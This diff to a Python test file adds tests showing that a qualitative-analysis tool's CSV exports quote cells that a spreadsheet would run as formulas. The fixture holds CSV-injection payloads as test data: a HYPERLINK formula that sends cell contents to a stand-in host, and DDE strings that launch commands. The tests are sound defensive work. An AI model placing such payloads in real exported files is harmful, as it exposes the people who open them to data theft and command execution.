@@ -25,6 +25,16 @@ def qda(*args, cwd=None, env=None):
                           env={**os.environ, "PYTHONWARNINGS": "ignore", **(env or {})})
 
 
+def run(*args):
+    """The command line in this process (for inputs that cannot hang it)."""
+    from click.testing import CliRunner
+
+    from qda.cli import cli
+    result = CliRunner().invoke(cli, [str(a) for a in args])
+    result.returncode = result.exit_code
+    return result
+
+
 def one_error(result) -> str:
     """The one `Error:` line of a failed command (no traceback)."""
     assert result.returncode != 0, result.stdout
@@ -69,3 +79,96 @@ def test_a_quoted_comma_and_a_short_row_are_read(tmp_path, small):
     info = read_participants(sheet).participants()
     assert info["P1"]["attributes"]["location"] == "Kent, UK"
     assert "location" not in info["P2"]["attributes"] or not info["P2"]["attributes"]["location"]
+
+
+# ------------------------------------------------------------ 5. formulas in CSV cells
+_FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0",
+             "-5 degrees outside, so the home visit was cancelled.", "@SUM(1+1)*cmd|' /C calc'!A0",
+             "'=already quoted by someone", "'tis the season, she said."]
+_TRIGGERS = tuple("=+-@\t\r")
+
+
+@pytest.fixture
+def formulas(tmp_path) -> Path:
+    """A project whose transcript turns, participant ids and attributes, and a coder's
+    codings all start like spreadsheet formulas (or like the quote that protects them)."""
+    from tests.conftest import CODEBOOK
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    (folder / "int-h.txt").write_text("".join(f"Dawn: {t}\n\nInterviewer: And?\n\n"
+                                              for t in _FORMULAS), encoding="utf-8")
+    (folder / "participants.csv").write_text(
+        'participant,document,speaker,role\n"=1+1",int-h,Dawn,"-officer"\n', encoding="utf-8")
+    path = tmp_path / "formulas.qda"
+    with Project.create(path) as project:
+        project.ingest([folder / "int-h.txt"], participants=folder / "participants.csv")
+        project.load_codebook(CODEBOOK)
+        segs = project.segments()
+        codes = ["home_visits", "benefits", "challenges"]
+        rows = [f"{sid},{codes[i % 3]}" for i, sid in enumerate(segs["segment_id"])]
+        sheet = tmp_path / "ann.csv"
+        sheet.write_text("segment_id,code\n" + "\n".join(rows) + "\n", encoding="utf-8")
+        project.import_coding(sheet, coder="ann")
+    return path
+
+
+def _cells(path: Path) -> list[str]:
+    import csv
+    with open(path, encoding="utf-8", newline="") as fh:
+        return [cell for row in csv.reader(fh) for cell in row]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(tmp_path, formulas):
+    outs = {"segments": ["segments"], "codings": ["codings", "--coder", "ann"],
+            "matrix": ["matrix", "--rows", "participant"], "framework": ["framework"],
+            "crosstab": ["crosstab", "role"]}
+    for name, args in outs.items():
+        out = tmp_path / f"{name}.csv"
+        result = run(*args, "--out", out, "--project", formulas)
+        assert result.returncode == 0, result.stderr
+        cells = _cells(out)
+        assert not [c for c in cells if c.startswith(_TRIGGERS)], name
+        if name in ("segments", "codings"):
+            assert "'-5 degrees outside, so the home visit was cancelled." in cells
+            assert "''=already quoted by someone" in cells and "'tis the season, she said." in cells
+        if name in ("segments", "codings", "matrix", "framework"):
+            assert "'=1+1" in cells, name
+    printed = run("segments", "--project", formulas)
+    assert "'+cmd|' /C calc'!A0" in printed.stdout
+
+
+def test_qda_reads_its_own_quoted_codings_csv_back_exactly(tmp_path, formulas):
+    out = tmp_path / "codings.csv"
+    assert run("codings", "--coder", "ann", "--out", out, "--project", formulas).returncode == 0
+    assert "'-5 degrees outside, so the home visit was cancelled." in _cells(out)
+    before = dump(formulas)
+    again = run("code", "import", out, "--coder", "ann", "--project", formulas)
+    assert again.returncode == 0, again.stderr
+    assert "Warning" not in again.stderr, again.stderr      # no text said to differ
+    assert {k: v for k, v in dump(formulas).items() if k != "history"} == \
+        {k: v for k, v in before.items() if k != "history"}
+    from qda.coding.longcsv import read_long_csv
+    texts = {r.text for r in read_long_csv(out)}
+    assert set(_FORMULAS) <= {t for t in texts if t}
+
+
+@pytest.mark.parametrize("text", [*_FORMULAS, "''+y", "'", "", "plain", "\tindented",
+                                  "\rreturn", "-", "'-", "a=b"])
+def test_the_quote_rule_is_undone_exactly(text):
+    from qda.csvcells import protect_cell, unprotect_cell
+    written = protect_cell(text)
+    assert not written.startswith(_TRIGGERS)
+    assert unprotect_cell(written) == text
+
+
+def test_a_pseudonymisation_key_reads_back_through_the_quote(tmp_path):
+    import pandas as pd
+
+    from qda.anonymise.key import read_key
+    from qda.csvcells import write_csv
+    key = tmp_path / "key.csv"
+    write_csv(pd.DataFrame({"original": ["-Kent-", "Dawn"], "replacement": ["=[town]", "[S01]"],
+                            "kind": ["place", "person"]}), key)
+    assert "'=[town]" in _cells(key)
+    entries = {(e.original, e.replacement) for e in read_key(key).entries}
+    assert entries == {("-Kent-", "=[town]"), ("Dawn", "[S01]")}
